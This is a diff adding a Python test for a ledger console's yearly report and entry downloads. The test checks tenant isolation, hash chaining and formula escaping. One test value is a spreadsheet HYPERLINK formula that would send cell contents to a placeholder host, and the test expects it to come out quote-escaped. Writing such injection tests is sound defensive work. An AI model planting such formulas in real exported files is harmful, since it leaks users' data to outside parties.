@@ -42,3 +42,46 @@ async def test_the_ledger_page_shows_the_tenants_year(quiet: LiveConsole) -> Non
     assert "2027-01-01 00:30:00 +08:00" in page
     assert "FP-2026" in before and "FP-2027" not in before
     assert 'href="/console/ledger"' in page  # in the menu
+
+
+async def test_the_year_downloads_as_report_and_entries(quiet: LiveConsole) -> None:
+    """The compliance officer keeps the year's record: the report (CSV and JSON, as
+    ``lingang ledger report`` and ``GET /v1/ledger/report`` give it) and every entry with
+    its hashes, the tenant's own only. A basis an officer typed that a spreadsheet would run
+    as a formula is written as text."""
+    import csv
+    import io
+    import json
+
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"批准")'
+    record = ExportRecord("91310115MA1FL8K22H", "SG", "0195:X", "FP-9", "cd" * 32, ("business",))
+    verdict = Verdict(True, formula, "officer", policy_version="v1", decided_by="officer Li Wei")
+    at = dt.datetime(2026, 6, 1, 8, 0, tzinfo=dt.UTC)
+    await quiet.store.connector.write(chain_entry(quiet.tenant_a.id, "sub-9", record, verdict, at))
+    await exported(quiet, quiet.tenant_a.id, "FP-2026", at)
+    await exported(quiet, quiet.tenant_b.id, "FP-OTHER", at)
+    session = await signed_in(quiet, quiet.key_a)
+    async with session:
+        async with session.get(f"{quiet.base}/console/ledger?year=2026") as response:
+            page = await response.text()
+        files = {}
+        for name in ("report.csv", "report.json", "entries.csv"):
+            assert f'href="/console/ledger/{name}?year=2026" download' in page
+            url = f"{quiet.base}/console/ledger/{name}?year=2026"
+            async with session.get(url) as response:
+                assert response.status == 200, name
+                disposition = response.headers["Content-Disposition"]
+                assert disposition == f'attachment; filename="ledger-{name.replace(".", "-2026.")}"'
+                files[name] = (await response.read()).decode("utf-8")
+    report = json.loads(files["report.json"])
+    assert report["year"] == 2026
+    assert report["exporters"]["91310115MA1FL8K22H"]["documents"] == 2
+    rows = list(csv.DictReader(io.StringIO(files["entries.csv"].removeprefix("\ufeff"))))
+    assert [r["document_id"] for r in rows] == ["FP-9", "FP-2026"]
+    assert rows[0]["basis"] == "'" + formula and len(rows[0]["entry_hash"]) == 64
+    assert rows[1]["prev_hash"] == rows[0]["entry_hash"]
+    report_rows = list(csv.reader(io.StringIO(files["report.csv"].removeprefix("\ufeff"))))
+    assert [*report_rows[0]] == ["year", "tenant", "exporter", "dimension", "key", "value"]
+    assert ["by_basis", "'" + formula, "1"] in [r[3:] for r in report_rows]
+    for text in files.values():
+        assert "FP-OTHER" not in text and quiet.tenant_b.id not in text
